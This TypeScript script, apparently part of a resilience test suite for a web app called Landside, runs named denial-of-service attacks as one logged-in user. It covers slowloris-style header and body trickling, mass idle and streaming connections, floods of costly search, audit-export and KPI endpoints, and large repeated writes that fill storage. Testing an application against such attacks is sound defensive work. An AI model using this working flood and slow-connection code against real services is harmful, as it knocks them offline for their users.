import { connect, type Socket } from 'node:net'

/**
 * Attacks a Landside as one person, until it is killed: `node attack.ts KIND URL COOKIE`. Prints counts of the
 * responses when it receives SIGTERM.
 */
const [, , kind = '', base = '', cookie = ''] = process.argv
const url = new URL(base)
const answers = new Map<string, number>()
const count = (what: string) => answers.set(what, (answers.get(what) ?? 0) + 1)

const headers = {
  cookie,
  'content-type': 'application/json',
  'sec-fetch-site': 'same-origin',
  origin: base,
}

/** Reopens a connection whenever it is closed, and sends `next` every second. */
function holdOpen(first: string, next: string): void {
  const socket: Socket = connect(Number(url.port), url.hostname)
  let timer: NodeJS.Timeout | undefined
  socket.on('error', () => undefined)
  socket.on('connect', () => {
    count('connected')
    if (first !== '') socket.write(first)
    if (next !== '') timer = setInterval(() => socket.write(next), 1000)
  })
  socket.once('data', (chunk) => count(`answered ${chunk.toString('latin1').slice(9, 12)}`))
  socket.resume()
  socket.on('close', () => {
    clearInterval(timer)
    count('ended')
    setTimeout(() => holdOpen(first, next), 100)
  })
}

async function callForEver(path: string, body: () => unknown, method = 'POST'): Promise<never> {
  for (;;)
    try {
      const given = body()
      const answer = await fetch(`${base}${path}`, {
        method,
        headers,
        ...(given !== undefined && { body: JSON.stringify(given) }),
      })
      await answer.arrayBuffer()
      count(`answered ${answer.status}`)
    } catch {
      count('failed')
    }
}

const nothing = () => undefined
const head = Object.entries({ host: url.host, ...headers })
  .map(([name, value]) => `${name}: ${value}\r\n`)
  .join('')
const attacks: Readonly<Record<string, () => unknown>> = {
  headers: () => repeat(500, () => holdOpen('GET / HTTP/1.1\r\n', 'X-A: b\r\n')),
  bodies: () =>
    repeat(500, () =>
      holdOpen(`POST /api/search HTTP/1.1\r\n${head}Content-Length: 9999\r\n\r\n`, 'x'),
    ),
  idle: () => repeat(10_000, () => holdOpen('', '')),
  streams: () => repeat(500, () => holdOpen(`GET /api/live HTTP/1.1\r\n${head}\r\n`, '')),
  search: () =>
    repeat(20, () => void callForEver('/api/search', () => ({ text: long, records: true }))),
  audit: () => repeat(20, () => void callForEver('/api/audit/export', nothing, 'GET')),
  kpi: () => repeat(20, () => void callForEver('/api/departures?days=180', nothing, 'GET')),
  packets: () => repeat(20, () => void callForEver(process.argv[5] ?? '', nothing, 'GET')),
  views: () =>
    repeat(
      5,
      () =>
        void callForEver('/api/views', () => ({
          page: 'containers',
          name: `View ${Math.random()}`,
          search: 'q='.padEnd(1000, 'x'),
          shared: false,
        })),
    ),
  notes: () =>
    repeat(
      5,
      () =>
        void callForEver('/api/handling', () => ({
          edits: [
            {
              containerIds: [process.argv[5]],
              change: { kind: 'note', text: 'x'.repeat(1000) },
            },
          ],
        })),
    ),
}
const long = Array.from({ length: 200 }, (_, i) => `MSKU${1_000_000 + i}`).join('\n')

function repeat(times: number, run: () => unknown): void {
  for (let done = 0; done < times; done += 1) run()
}

process.on('SIGTERM', () => {
  process.stdout.write(JSON.stringify(Object.fromEntries(answers)))
  process.exit(0)
})
attacks[kind]?.()
